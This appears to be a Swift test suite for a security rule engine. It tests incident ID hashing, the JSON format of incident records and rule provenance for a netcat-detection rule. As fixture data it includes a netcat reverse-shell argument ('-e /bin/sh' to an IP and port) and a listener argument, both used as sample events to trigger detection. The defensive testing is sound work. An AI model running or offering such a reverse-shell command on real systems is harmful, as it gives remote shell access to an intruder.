import ExecEvents
import Testing

@testable import RuleEngine

@Suite struct IncidentIDTests {
    @Test func fnv1a128MatchesPublishedTestVectors() {
        func fnv(_ text: String) -> String {
            var hash = FNV1a128()
            hash.combine(text)
            return hash.value.description
        }
        // The 128-bit FNV-1a reference values (offset basis, "a", "foobar").
        #expect(fnv("") == "6c62272e07bb014262b821756295c58d")
        #expect(fnv("a") == "d228cb696f1a8caf78912b704e4a8964")
        #expect(fnv("foobar") == "343e1662793c64bf6f0d3597ba446f18")
    }

    @Test func hexRoundTrip() {
        let id = IncidentID(ruleId: "R", hostName: "h", groupValues: [])
        #expect(id.description.count == 32)
        #expect(id.description.utf8.allSatisfy { ($0 >= 0x30 && $0 <= 0x39) || ($0 >= 0x61 && $0 <= 0x66) })
        #expect(IncidentID(hex: id.description) == id)
        #expect(IncidentID(hex: "xyz") == nil)
    }

    @Test func sameGroupSameIdAcrossEngines() throws {
        let r = rule(filter: #"procName = "nc""#, groupBy: "hostName, user, procName, swParam")
        var one = engine([r], agentId: "x")
        var two = engine([r], agentId: "y")
        _ = two.process(exec(at: 0, user: "zed"))  // different history before
        let a = try #require(one.process(exec(at: 5)).first?.incident.incidentId)
        let b = try #require(two.process(exec(at: 99)).first?.incident.incidentId)
        #expect(a == b)
        #expect(
            a
                == IncidentID(
                    ruleId: "R1",
                    hostName: "web-1",
                    groupValues: [
                        ("user", .string("alice")), ("procName", .string("nc")), ("swParam", .string("-l 4444")),
                    ]
                )
        )
    }

    @Test func idsDifferByRuleHostAndGroupValues() throws {
        let base = IncidentID(
            ruleId: "R1",
            hostName: "h",
            groupValues: [("user", .string("a")), ("swParam", .string("b"))]
        )
        let variants = [
            IncidentID(ruleId: "R2", hostName: "h", groupValues: [("user", .string("a")), ("swParam", .string("b"))]),
            IncidentID(ruleId: "R1", hostName: "h2", groupValues: [("user", .string("a")), ("swParam", .string("b"))]),
            IncidentID(ruleId: "R1", hostName: "h", groupValues: [("user", .string("b")), ("swParam", .string("a"))]),
            IncidentID(ruleId: "R1", hostName: "h", groupValues: [("user", .string("ab")), ("swParam", .string(""))]),
            IncidentID(ruleId: "R1", hostName: "h", groupValues: [("user", .string("a")), ("swParam", nil)]),
            IncidentID(ruleId: "R1", hostName: "h", groupValues: [("user", .string("a")), ("swParam", .string(""))]),
        ]
        #expect(Set(variants + [base]).count == variants.count + 1)
        let again = IncidentID(
            ruleId: "R1",
            hostName: "h",
            groupValues: [("user", .string("a")), ("swParam", .string("b"))]
        )
        #expect(again == base)
    }
}

@Suite struct IncidentJSONTests {
    @Test func fieldsInOrderWithTheirValues() throws {
        var e = engine([try NetcatRuleTests.netcat()], agentId: "agent-9")
        let event = exec(
            at: 1_795_860_000,
            ms: 123,
            host: "web-1",
            user: "alice",
            proc: "nc",
            args: "-e /bin/sh 10.0.0.1 4444"
        )
        let incident = try #require(e.process(event).first?.incident)
        let json = try JSONValue.parse(incident.jsonLine)
        guard case .object(let members) = json else {
            Issue.record("not an object")
            return
        }
        #expect(
            members.map(\.0) == [
                "incidentId", "ruleId", "ruleName", "incidentType", "severity", "category", "tactics", "techniques",
                "hostName", "attributes", "count", "firstSeen", "lastSeen", "version", "agentId", "triggerEvents",
            ]
        )
        #expect(json["incidentId"] == .string(incident.incidentId.description))
        #expect(json["ruleId"] == .string("PH_Rule_TH_Linux_23"))
        #expect(json["ruleName"] == .string("Linux: Netcat Process Activity"))
        #expect(json["incidentType"] == .string("PH_RULE_TH_LINUX_23"))
        #expect(json["severity"] == .integer(7))
        #expect(json["category"] == .string("Security"))
        #expect(json["tactics"] == .array([.string("Execution")]))
        #expect(json["techniques"] == .array([.string("T1059.004")]))
        #expect(json["hostName"] == .string("web-1"))
        #expect(
            json["attributes"]
                == .object([
                    ("hostName", .string("web-1")), ("user", .string("alice")), ("procName", .string("nc")),
                    ("swParam", .string("-e /bin/sh 10.0.0.1 4444")),
                ])
        )
        #expect(json["count"] == .integer(1))
        #expect(json["firstSeen"] == .string("2026-11-28T10:00:00.123Z"))
        #expect(json["lastSeen"] == .string("2026-11-28T10:00:00.123Z"))
        #expect(json["version"] == .integer(1))
        #expect(json["agentId"] == .string("agent-9"))
        guard case .array(let triggers) = json["triggerEvents"] else {
            Issue.record("triggerEvents is not an array")
            return
        }
        #expect(triggers.count == 1)
        let back = try ExecEvent(json: triggers[0], defaultHostName: "?")
        #expect(back == event)
    }
}

@Suite struct IncidentRuleProvenanceTests {
    static let author = "Florian Roth (Nextron Systems)"
    static let source =
        "https://github.com/SigmaHQ/sigma/blob/master/rules/linux/process_creation/proc_creation_lnx_netcat_reverse_shell.yml"

    func sigmaLikeRule() -> Rule {
        var r = rule(filter: #"procName = "nc""#, groupBy: "hostName, user")
        r.author = Self.author
        r.sourceReference = Self.source
        return r
    }

    @Test func incidentsCarryTheRulesAuthorAndSource() throws {
        var e = engine([sigmaLikeRule()])
        let created = try #require(e.process(exec(at: 10)).first?.incident)
        #expect(created.ruleAuthor == Self.author)
        #expect(created.ruleSource == Self.source)
        let updated = try #require(e.process(exec(at: 20)).first)
        #expect(updated.kind == .updated)
        #expect(updated.incident.ruleAuthor == Self.author)
        #expect(updated.incident.ruleSource == Self.source)
    }

    @Test func jsonEndsWithAuthorAndSourceAndReadsBack() throws {
        var e = engine([sigmaLikeRule()])
        let incident = try #require(e.process(exec(at: 10)).first?.incident)
        let json = try JSONValue.parse(incident.jsonLine)
        guard case .object(let members) = json else {
            Issue.record("not an object")
            return
        }
        #expect(members.suffix(3).map(\.0) == ["triggerEvents", "ruleAuthor", "ruleSource"])
        #expect(json["ruleAuthor"] == .string(Self.author))
        #expect(json["ruleSource"] == .string(Self.source))
        #expect(try Incident(jsonText: incident.jsonLine) == incident)
    }

    @Test func absentOrNullMeansNoneAndOtherTypesAreRefused() throws {
        var e = engine([rule(filter: #"procName = "nc""#)])
        let incident = try #require(e.process(exec(at: 10)).first?.incident)
        #expect(incident.ruleAuthor == nil)
        #expect(!incident.jsonLine.contains("ruleAuthor"))
        #expect(!incident.jsonLine.contains("ruleSource"))
        let withNull = String(incident.jsonLine.dropLast()) + #","ruleAuthor":null}"#
        #expect(try Incident(jsonText: withNull) == incident)
        let withNumber = String(incident.jsonLine.dropLast()) + #","ruleSource":5}"#
        #expect(throws: IncidentJSONError(field: "ruleSource", reason: "expected a string")) {
            try Incident(jsonText: withNumber)
        }
    }

    @Test func footprintCountsAuthorAndSource() throws {
        var e = engine([rule(filter: #"procName = "nc""#)])
        var incident = try #require(e.process(exec(at: 10)).first?.incident)
        let bare = incident.footprintBytes
        incident.ruleAuthor = String(repeating: "a", count: 1000)
        incident.ruleSource = String(repeating: "s", count: 2000)
        #expect(incident.footprintBytes - bare >= 3000)
        #expect(incident.footprintBytes - bare < 3100)
    }
}
